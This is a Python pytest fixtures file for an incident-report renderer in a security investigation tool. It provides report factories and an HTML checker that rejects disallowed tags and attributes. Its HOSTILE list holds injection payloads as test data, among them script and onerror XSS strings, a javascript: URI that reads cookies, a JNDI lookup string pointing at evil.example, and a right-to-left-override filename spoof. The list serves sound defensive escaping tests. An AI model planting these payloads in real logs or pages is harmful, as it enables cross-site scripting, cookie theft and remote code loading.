"""Report factories and an HTML inspector for the renderer tests."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any, Protocol

import pytest

from lookup.drilldown import anomaly_chart_queries
from lookup.models import (
    Anomaly,
    Entity,
    EntityKind,
    Incident,
    SkippedEntity,
    TableResult,
    Window,
)
from lookup.report import EntityReport, Report, Stats

ALERT_TIME = datetime(2025, 1, 3, 10, 15, tzinfo=UTC)
DAILY = Window(start=datetime(2024, 12, 20, tzinfo=UTC), step=timedelta(days=1), bins=15)
HOURLY = Window(start=datetime(2024, 12, 31, 11, tzinfo=UTC), step=timedelta(hours=1), bins=72)

JDOE = Entity(EntityKind.ACCOUNT, "jdoe@contoso.com", ("jdoe@contoso.com", "jdoe", "CONTOSO\\jdoe"))
IP = Entity(EntityKind.IP, "203.0.113.7", ("203.0.113.7",))
HOST = Entity(EntityKind.HOST, "ws-042.contoso.com", ("ws-042.contoso.com", "ws-042"))

#: Values an attacker could plant in logs, each aimed at a different way to break a comment.
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "a & b &amp; c &lt;",
    "</pre></td></tr></table><b>bold</b>",
    "' onmouseover='alert(1)",
    "javascript:alert(document.cookie)",
    "![x](javascript:alert(1)) [link](https://evil.example) **bold** `code`",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "<!-- comment --><![CDATA[x]]>",
    "x | y | z",
)

#: Hostile values whose display differs from the raw value, with what must be shown.
HOSTILE_SHOWN = {
    "line1\nline2\r\n\tend": "line1␊line2␍␊␉end",
    "report\u202etxt.exe": "report[U+202E]txt.exe",
    "\n\n<h1>x</h1>\n\n": "␊␊<h1>x</h1>␊␊",
}

ALLOWED_TAGS = frozenset(
    {"table", "tr", "th", "td", "b", "i", "br", "wbr", "p", "pre", "code", "ul", "li", "a", "small"}
)
VOID_TAGS = frozenset({"br", "wbr"})


def make_kql(table: str, column: str, value: str, bin_start: datetime) -> str:
    """A drill-down query shaped like the real ones (json.dumps stands in for kql_string)."""
    end = bin_start + timedelta(days=1)
    return "\n".join(
        [
            table,
            f"| where TimeGenerated >= datetime({bin_start:%Y-%m-%dT%H:%M:%SZ})"
            f" and TimeGenerated < datetime({end:%Y-%m-%dT%H:%M:%SZ})",
            '| where UserPrincipalName has "jdoe@contoso.com"',
            f"| where {column} == {json.dumps(value)}",
            "| take 1000",
        ]
    )


def make_anomaly(
    rank: int,
    *,
    entity: Entity = JDOE,
    table: str = "SigninLogs",
    column: str = "Location",
    value: str = "RU",
    actual: float = 42,
    expected: float = 1.2,
    score: float | None = None,
    series: Sequence[float] | None = None,
    step: timedelta = DAILY.step,
    kql: str | None = None,
    first_seen: bool = False,
) -> Anomaly:
    """One anomaly in the test bin of the daily window; scores fall as ranks rise."""
    bin_start = DAILY.test_bin_start if step == DAILY.step else HOURLY.test_bin_start
    return Anomaly(
        rank=rank,
        entity=entity.value,
        entity_kind=str(entity.kind),
        table=table,
        entity_column="UserPrincipalName",
        column=column,
        value=value,
        bin_start=bin_start,
        step=step,
        actual=actual,
        expected=expected,
        score=score if score is not None else round(50.0 / rank, 4),
        series=tuple(series) if series is not None else (1.0,) * 14 + (actual,),
        drilldown_kql=kql if kql is not None else make_kql(table, column, value, bin_start),
        first_seen=first_seen,
    )


@dataclass
class ReportSpec:
    """What a test wants in its report; every field has a sensible default."""

    anomalies: int | Sequence[Anomaly] = 3
    tables: Mapping[str, str] = field(
        default_factory=lambda: {"SigninLogs": "ok", "AuditLogs": "ok", "SecurityEvent": "no_match"}
    )
    errors: Mapping[str, str] = field(default_factory=dict)
    entities: Sequence[Entity] = (JDOE, IP, HOST)
    skipped: Sequence[SkippedEntity] = ()
    values: Callable[[int], str] | None = None
    series_scored: int = 120
    settings: Mapping[str, str] = field(
        default_factory=lambda: {
            "tables": "auto",
            "lookback_days": "14",
            "step": "auto",
            "threshold": "1.5",
            "max_anomalies": "25",
        }
    )
    windows: Mapping[str, Window] = field(default_factory=dict)


class ReportFactory(Protocol):
    def __call__(self, anomalies: int | Sequence[Anomaly] = 3, **spec: Any) -> Report: ...


def build_report(spec: ReportSpec) -> Report:
    """A report for ``spec``.

    Generated anomalies alternate between the first two entities (the third stays quiet)
    and move to the next ok or partial table every second rank.
    """
    scanned = [t for t, status in spec.tables.items() if status in {"ok", "partial"}]
    if isinstance(spec.anomalies, int):
        noisy = list(spec.entities[:2]) or [JDOE]
        tables_for = scanned or ["SigninLogs"]
        anomalies = tuple(
            make_anomaly(
                i,
                entity=noisy[(i - 1) % len(noisy)],
                table=tables_for[((i - 1) // 2) % len(tables_for)],
                column="Location" if i % 2 else "AppDisplayName",
                value=spec.values(i) if spec.values else f"value-{i}",
                actual=40 + i,
            )
            for i in range(1, spec.anomalies + 1)
        )
    else:
        anomalies = tuple(spec.anomalies)

    tables = tuple(
        TableResult(
            table=name,
            status=status,
            entity_columns=(
                {e.value: ("UserPrincipalName",) for e in spec.entities}
                if status in {"ok", "partial"}
                else {}
            ),
            categorical_columns=("Location", "AppDisplayName"),
            error=spec.errors.get(name),
            row_count=1000 if status in {"ok", "partial"} else None,
            series_scored=spec.series_scored // max(len(scanned), 1) if name in scanned else 0,
        )
        for name, status in spec.tables.items()
    )
    incident = Incident(
        alert_time=ALERT_TIME,
        alert_time_source="alerts[].endTimeUtc",
        entities=tuple(spec.entities),
        skipped_entities=tuple(spec.skipped),
        arm_id="/subscriptions/0000/resourceGroups/rg/providers/Microsoft.OperationalInsights"
        "/workspaces/ws/providers/Microsoft.SecurityInsights/Incidents/abc",
        name="abc",
        number=4711,
        title="Sign-in from an unusual country",
        severity="High",
        url="https://portal.azure.com/#asset/Microsoft_Azure_Security_Insights/Incident/abc",
    )
    return Report(
        incident=incident,
        window=DAILY,
        entities=tuple(
            EntityReport(entity=e, window=spec.windows.get(e.value, DAILY)) for e in spec.entities
        ),
        tables=tables,
        anomalies=anomalies,
        stats=Stats(queries=7, seconds=3.25, series_scored=spec.series_scored, rows_returned=5400),
        settings=dict(spec.settings),
        backend="local",
        generated_at=datetime(2025, 1, 3, 10, 20, 5, tzinfo=UTC),
        version="0.1.0",
        charts=anomaly_chart_queries(anomalies, spec.entities),
    )


@pytest.fixture
def make_report() -> ReportFactory:
    """``make_report(n, tables={...}, errors={...}, ...)`` builds a :class:`Report`."""

    def factory(anomalies: int | Sequence[Anomaly] = 3, **spec: Any) -> Report:
        return build_report(ReportSpec(anomalies=anomalies, **spec))

    return factory


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    text: str = ""
    children: list[Element] = field(default_factory=list)

    def find_all(self, tag: str) -> list[Element]:
        found = [self] if self.tag == tag else []
        for child in self.children:
            found += child.find_all(tag)
        return found


class CommentParser(HTMLParser):
    """Builds an element tree and records anything a comment must not contain."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Element("#root", [])
        self.stack = [self.root]
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, _ in attrs:
            if name != "href" or tag != "a":
                self.problems.append(f"attribute {name} on <{tag}>")
        element = Element(tag, attrs)
        self.stack[-1].children.append(element)
        if tag not in VOID_TAGS:
            self.stack.append(element)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in VOID_TAGS:
            self.stack.pop()

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID_TAGS:
            return
        if len(self.stack) == 1 or self.stack[-1].tag != tag:
            self.problems.append(f"unbalanced </{tag}>")
            return
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        for element in self.stack:
            element.text += data

    def handle_comment(self, data: str) -> None:
        self.problems.append("html comment")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("declaration")

    def unknown_decl(self, data: str) -> None:
        self.problems.append("unknown declaration")

    def handle_pi(self, data: str) -> None:
        self.problems.append("processing instruction")


def parse_comment(markup: str) -> Element:
    """Parse a comment; fail the test on any tag, attribute or nesting it must not have."""
    parser = CommentParser()
    parser.feed(markup)
    parser.close()
    if len(parser.stack) != 1:
        parser.problems.append(f"unclosed {[e.tag for e in parser.stack[1:]]}")
    assert parser.problems == []
    return parser.root


@pytest.fixture
def parse() -> Callable[[str], Element]:
    """The :func:`parse_comment` checker as a fixture."""
    return parse_comment
